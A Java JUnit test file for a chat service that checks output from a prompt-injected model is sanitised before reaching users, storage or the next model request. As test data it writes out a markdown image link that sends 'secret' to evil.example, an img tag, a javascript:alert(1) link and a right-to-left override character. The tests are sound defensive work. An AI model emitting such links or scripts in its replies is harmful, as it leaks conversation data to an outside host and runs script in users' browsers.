package dev.haystack.scenarios;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import dev.haystack.domain.json.JsonObject;
import dev.haystack.testkit.ChatClient;
import dev.haystack.testkit.ModelScript;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What a model that obeys others says, over real sockets. */
class OutgoingTextScenariosTest extends Scenario {

  @Test
  void anImageThatCarriesWhatWasSaidAwayIsNeitherToldNorStoredNorAskedWith() throws Exception {
    model.then(
        ModelScript.says("Yes! ", "!", "[x", "](https://evil.exam", "ple/?d=secret)", " Done"));
    List<JsonObject> turn = connect("s").ask("go");
    assertEquals("Yes! [image removed] Done", ChatClient.text(turn));

    model.then(ModelScript.says("Again."));
    var _ = connect("s").ask("and now?");
    assertFalse(model.requests().getLast().text().contains("evil.example"));
    assertFalse(service().get("/api/v1/sessions/s/messages").body().contains("evil.example"));
  }

  @Test
  void nothingThatRunsOrHidesIsTold() {
    model.then(
        ModelScript.says(
            "<img src=//evil.example> [a](java",
            "script:alert(1)) [b](https://evil.example/x) [c](/clients) a\u202Eb"));
    assertEquals(
        "[image removed] a b (https://evil.example/x) [c](/clients) ab",
        ChatClient.text(connect("s").ask("go")));
  }
}
